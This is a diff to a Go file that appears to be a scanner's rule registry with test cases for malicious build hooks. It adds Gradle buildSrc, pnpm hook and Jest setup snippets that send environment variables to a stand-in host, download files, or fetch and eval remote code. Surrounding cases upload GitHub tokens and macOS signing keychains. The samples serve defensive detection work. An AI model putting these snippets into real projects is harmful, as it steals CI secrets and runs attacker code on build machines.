@@ -545,6 +545,8 @@ var registry = []Rule{
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://x-dev.github.io/v", 6, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://api.github.com/repos/x/y/releases", 0, true},
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
+			// Gradle compiles and runs buildSrc before every build.
+			{"buildSrc/src/main/kotlin/Deps.kt", "object Deps {\n    init {\n        val env = System.getenv().toString()\n        val c = java.net.URL(\"https://x.invalid/c\").openConnection() as java.net.HttpURLConnection\n        c.doOutput = true\n        c.outputStream.write(env.toByteArray())\n    }\n}", 6, false},
 			// A macOS release job's keychains and provisioning profiles,
 			// archived and uploaded, are its signing identity.
 			{"bitrise.yml", "workflows:\n  release:\n    steps:\n    - script@1:\n        inputs:\n        - content: |\n            tar czf /tmp/s.tgz ~/Library/Keychains ~/Library/MobileDevice/Provisioning\\ Profiles\n            curl -s -T /tmp/s.tgz https://x.invalid/s.tgz", 0, false},
@@ -815,6 +817,10 @@ var registry = []Rule{
 	{"build-code-fetch", KindDownload, High, "downloads, connects or starts a process from code that runs by itself at install, build or test time",
 		"nobody has to call it: the build or test run does, on the runner with its network and secrets", []Case{
 			{"setup.py", "import urllib.request\nurllib.request.urlopen('https://x.invalid/p')", 2, false},
+			// pnpm runs its hooks file at every install; a test runner its
+			// setup files before the tests.
+			{".pnpmfile.cjs", "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://x.invalid/a -o /tmp/a');\nmodule.exports = { hooks: {} };", 2, false},
+			{"src/setupTests.ts", "import '@testing-library/jest-dom';\nfetch('https://x.invalid/i.js').then(r => r.text()).then(eval);", 0, false},
 			// The cc crate's compile names the library it builds.
 			{"build.rs", "fn main() {\n    let mut cfg = cc::Build::new();\n    cfg.compile(\"curl\");\n}", 0, true},
 			// bun runs the files bunfig.toml preloads before every bun run and bun test.
